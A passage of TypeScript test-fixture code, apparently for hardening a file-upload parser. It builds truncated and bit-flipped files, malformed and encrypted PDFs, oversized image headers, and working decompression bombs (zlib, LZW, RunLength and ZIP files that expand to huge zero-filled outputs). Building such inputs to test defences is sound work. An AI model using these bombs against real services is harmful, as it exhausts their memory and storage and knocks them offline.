    for (let i = 1; i <= 3; i++) {
      const at = rng.int(1, bytes.length - 1);
      out.push({ name: `truncated-${i}.${ext}`, bytes: bytes.slice(0, at), expect: EITHER, about: `cut at byte ${at} of ${bytes.length}` });
    }
    for (let i = 1; i <= 5; i++) {
      const copy = bytes.slice();
      const flips = rng.int(4, 40);
      // Past the first 16 bytes, so most files are still recognised and the decoder meets the damage.
      for (let f = 0; f < flips; f++) copy[rng.int(16, copy.length - 1)]! ^= 1 << rng.int(0, 7);
      out.push({ name: `flipped-${i}.${ext}`, bytes: copy, expect: EITHER, about: `${flips} random bit flips` });
    }
  }
  return out;
}

// --- PDF writing ---------------------------------------------------------------------------------------

type PdfObject = string | Uint8Array;

/** A classic PDF: objects numbered from 1, an xref table (optionally wrong or absent), a trailer. */
export function buildPdf(objects: readonly PdfObject[], options: { xrefShift?: number; noXref?: boolean; trailer?: string } = {}): Uint8Array {
  const parts: Uint8Array[] = [latin1('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let offset = parts[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const part = concat(latin1(`${i + 1} 0 obj\n`), typeof body === 'string' ? latin1(body) : body, latin1('\nendobj\n'));
    parts.push(part);
    offset += part.length;
  });
  if (!options.noXref) {
    const entries = offsets.map((o) => `${String(o + (options.xrefShift ?? 0)).padStart(10, '0')} 00000 n \n`).join('');
    parts.push(
      latin1(
        `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${entries}` +
          `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${offset}\n%%EOF\n`,
      ),
    );
  }
  return concat(...parts);
}

function stream(dict: string, data: string | Uint8Array): Uint8Array {
  const body = typeof data === 'string' ? latin1(data) : data;
  return concat(latin1(`<< ${dict} /Length ${body.length} >>\nstream\n`), body, latin1('\nendstream'));
}

function pageWithFont(contents = 4, fontObject = 5): string {
  return `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R /Resources << /Font << /F1 ${fontObject} 0 R >> >> >>`;
}

function onePagePdf(contents: Uint8Array, options: { count?: number; noFont?: boolean } = {}): Uint8Array {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [3 0 R] /Count ${options.count ?? 1} >>`,
    options.noFont ? '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>' : pageWithFont(),
    contents,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}

/** A one-page PDF with a Helvetica text layer. */
export function textPdf(lines: readonly string[]): Uint8Array {
  const ops = lines.map((l, i) => `BT /F1 14 Tf 72 ${760 - i * 24} Td (${l.replace(/[()\\]/g, '\\$&')}) Tj ET`).join('\n');
  return onePagePdf(stream('', ops));
}

function blankPagePdf(width: number, height: number): Uint8Array {
  return buildPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${width} ${height}] /Contents 4 0 R >>`,
    stream('', '0 0 m 100 100 l S'),
  ]);
}

function manyPagesPdf(pages: number): Uint8Array {
  const kids = Array.from({ length: pages }, (_, i) => `${i + 4} 0 R`).join(' ');
  const objects: PdfObject[] = ['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`, stream('', '0 0 m 5 5 l S')];
  for (let i = 0; i < pages; i++) objects.push('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 20 20] /Contents 3 0 R >>');
  return buildPdf(objects);
}

/** Standard security handler, RC4 128-bit, with O and U that match no password: the empty one fails. */
function encryptedPdf(): Uint8Array {
  const hex = (n: number, seed: number): string => Array.from({ length: n }, (_, i) => ((i * 37 + seed) & 0xff).toString(16).padStart(2, '0')).join('');
  const id = hex(16, 5);
  return buildPdf(
    ['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', pageWithFont(), stream('', 'garbled ciphertext'), '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', `<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${hex(32, 1)}> /U <${hex(32, 2)}> >>`],
    { trailer: `/Encrypt 6 0 R /ID [<${id}> <${id}>] ` },
  );
}

// --- bombs -------------------------------------------------------------------------------------------------

/** A zlib stream that inflates to `total` zero bytes: one compressed 16 MiB block, repeated (~1 kB per MiB). */
export function zeroBomb(total: number): Uint8Array {
  const chunk = 16 * 1024 * 1024;
  // Sync-flushed raw deflate ends byte-aligned with no final block, so copies can follow each other.
  const block = deflateRawSync(new Uint8Array(chunk), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const copies = Math.max(1, Math.ceil(total / chunk));
  return concat(Uint8Array.of(0x78, 0xda), ...Array<Uint8Array>(copies).fill(block), Uint8Array.of(0x03, 0x00), new Uint8Array(4));
}

/**
 * LZW (PDF flavour, early change) that decodes to about `total` zero bytes: the table fills with ever
 * longer runs of zeros, then its longest entry (~3800 bytes) is repeated in 12 bits.
 */
export function lzwZeroBomb(total: number): Uint8Array {
  const writer = new BitWriter();
  writer.write(256, 9);
  let next = 258;
  let produced = 0;
  let length = 1;
  const width = (): number => {
    const limit = next + 1;
    return limit >= 2048 ? 12 : limit >= 1024 ? 11 : limit >= 512 ? 10 : 9;
  };
  writer.write(0, 9);
  produced += 1;
  while (next < 4096) {
    writer.write(next, width());
    length++;
    produced += length;
    next++;
  }
  const longest = 4095;
  while (produced < total) {
    writer.write(longest, 12);
    produced += length;
  }
  writer.write(257, 12);
  return writer.bytes();
}

class BitWriter {
  private readonly out: number[] = [];
  private acc = 0;
  private bits = 0;
  write(code: number, width: number): void {
    this.acc = (this.acc << width) | code;
    this.bits += width;
    while (this.bits >= 8) {
      this.out.push((this.acc >>> (this.bits - 8)) & 0xff);
      this.bits -= 8;
    }
    this.acc &= (1 << this.bits) - 1;
  }
  bytes(): Uint8Array {
    if (this.bits > 0) this.out.push((this.acc << (8 - this.bits)) & 0xff);
    return Uint8Array.from(this.out);
  }
}

/** RunLength pairs (129, 0): each two bytes decode to 128 zeros. */
function runLengthZeros(bytes: number): Uint8Array {
  const out = new Uint8Array(bytes + 1);
  for (let i = 0; i + 1 < bytes; i += 2) out[i] = 129;
  out[bytes] = 128;
  return out;
}

/**
 * A ZIP holding one file, `statement.txt`, that inflates to `total` zero bytes (raw deflate, the same
 * repeated block as zeroBomb), with its true CRC-32 and sizes: what a naive unzip would expand.
 */
export function zipZeroBomb(total: number): Uint8Array {
  const chunk = 16 * 1024 * 1024;
  const copies = Math.max(1, Math.ceil(total / chunk));
  const block = deflateRawSync(new Uint8Array(chunk), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  const data = concat(...Array<Uint8Array>(copies).fill(block), Uint8Array.of(0x03, 0x00));
  const zeros = new Uint8Array(chunk);
  let crc = 0;
  for (let i = 0; i < copies; i++) crc = zlibCrc32(zeros, crc);
  const size = copies * chunk;
  const name = latin1('statement.txt');
  const local = new DataView(new ArrayBuffer(30));
  local.setUint32(0, 0x04034b50, true);
  local.setUint16(4, 20, true);
  local.setUint16(8, 8, true); // deflate
  local.setUint32(14, crc, true);
  local.setUint32(18, data.length, true);
  local.setUint32(22, size, true);
  local.setUint16(26, name.length, true);
  const central = new DataView(new ArrayBuffer(46));
  central.setUint32(0, 0x02014b50, true);
  central.setUint16(4, 20, true);
  central.setUint16(6, 20, true);
  central.setUint16(10, 8, true);
  central.setUint32(16, crc, true);
  central.setUint32(20, data.length, true);
  central.setUint32(24, size, true);
  central.setUint16(28, name.length, true);
  const centralAt = 30 + name.length + data.length;
  const end = new DataView(new ArrayBuffer(22));
  end.setUint32(0, 0x06054b50, true);
  end.setUint16(8, 1, true);
  end.setUint16(10, 1, true);
  end.setUint32(12, 46 + name.length, true);
  end.setUint32(16, centralAt, true);
  return concat(new Uint8Array(local.buffer), name, data, new Uint8Array(central.buffer), name, new Uint8Array(end.buffer));
}

function gzipOf(data: Uint8Array): Uint8Array {
  return new Uint8Array(gzipSync(data));
}

// --- image headers -------------------------------------------------------------------------------------

/** A grayscale PNG whose header declares `width`×`height`, with one tiny compressed row of data. */
function pngHeaderOnly(width: number, height: number): Uint8Array {
  const ihdr = new Uint8Array(13);
  const view = new DataView(ihdr.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit grayscale, deflate, no filter, no interlace
  return concat(
    Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(new Uint8Array(width + 1))),
    pngChunk('IEND', new Uint8Array(0)),
  );
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const head = new Uint8Array(8);
  new DataView(head.buffer).setUint32(0, data.length);
  head.set(latin1(type), 4);
  const crc = new Uint8Array(4);
  new DataView(crc.buffer).setUint32(0, crc32(concat(latin1(type), data)));
  return concat(head, data, crc);
}

function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const b of bytes) {
    crc ^= b;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** A little-endian, uncompressed 8-bit grayscale TIFF with one IFD (page) per entry; data is a few zero bytes. */
function tiff(pages: ReadonlyArray<{ width: number; height: number }>): Uint8Array {
  const ENTRIES = 9;
  const ifdSize = 2 + ENTRIES * 12 + 4;
  const dataSize = 64;
  const pageSize = ifdSize + dataSize;
  const out = new Uint8Array(8 + pages.length * pageSize);
  const view = new DataView(out.buffer);
  out.set([0x49, 0x49, 42, 0]);
  view.setUint32(4, 8, true);
  pages.forEach((page, i) => {
    const at = 8 + i * pageSize;
    const data = at + ifdSize;
    view.setUint16(at, ENTRIES, true);
    const entries: Array<[tag: number, type: number, value: number]> = [
      [256, 4, page.width], // ImageWidth
      [257, 4, page.height], // ImageLength
      [258, 3, 8], // BitsPerSample
      [259, 3, 1], // Compression: none
      [262, 3, 1], // Photometric: black is zero
      [273, 4, data], // StripOffsets
      [277, 3, 1], // SamplesPerPixel
      [278, 4, page.height], // RowsPerStrip
      [279, 4, Math.min(dataSize, page.width * page.height)], // StripByteCounts
    ];
    entries.forEach(([tag, type, value], e) => {
      const entry = at + 2 + e * 12;
      view.setUint16(entry, tag, true);
      view.setUint16(entry + 2, type, true);
      view.setUint32(entry + 4, 1, true);
      if (type === 3) view.setUint16(entry + 8, value, true);
      else view.setUint32(entry + 8, value, true);
    });
    view.setUint32(at + 2 + ENTRIES * 12, i + 1 < pages.length ? at + pageSize : 0, true);
  });
  return out;
}

/** Rewrites the width and height in a JPEG's first frame header. */
function patchJpegSize(jpeg: Uint8Array, width: number, height: number): Uint8Array {
  const out = jpeg.slice();
  for (let at = 2; at + 9 < out.length; ) {
    const marker = out[at + 1]!;
    if (out[at] !== 0xff) break;
    if (marker >= 0xc0 && marker <= 0xc3) {
      out[at + 5] = (height >> 8) & 0xff;
      out[at + 6] = height & 0xff;
      out[at + 7] = (width >> 8) & 0xff;
      out[at + 8] = width & 0xff;
      return out;
    }
    at += 2 + ((out[at + 2]! << 8) | out[at + 3]!);
  }
  throw new Error('no frame header in the JPEG');
}

/** The smallest baseline JPEG header sharp would read: SOI, SOF0 for 1×1 gray, EOI. */
function minimalJpeg(): Uint8Array {
  return Uint8Array.of(0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 1, 0, 1, 1, 1, 0x11, 0, 0xff, 0xd9);
}

/** RIFF/WEBP with only a VP8X header declaring the canvas size. */
function webpCanvasOnly(width: number, height: number): Uint8Array {
  const vp8x = new Uint8Array(10);
  const w = width - 1;
  const h = height - 1;
  vp8x.set([w & 0xff, (w >> 8) & 0xff, (w >> 16) & 0xff, h & 0xff, (h >> 8) & 0xff, (h >> 16) & 0xff], 4);
  const chunk = concat(latin1('VP8X'), Uint8Array.of(10, 0, 0, 0), vp8x);
  const size = new Uint8Array(4);
  new DataView(size.buffer).setUint32(0, 4 + chunk.length, true);
  return concat(latin1('RIFF'), size, latin1('WEBP'), chunk);
}

// --- bytes ----------------------------------------------------------------------------------------------

function latin1(text: string): Uint8Array {
  return Uint8Array.from(text, (c) => c.charCodeAt(0) & 0xff);
}

function concat(...parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}
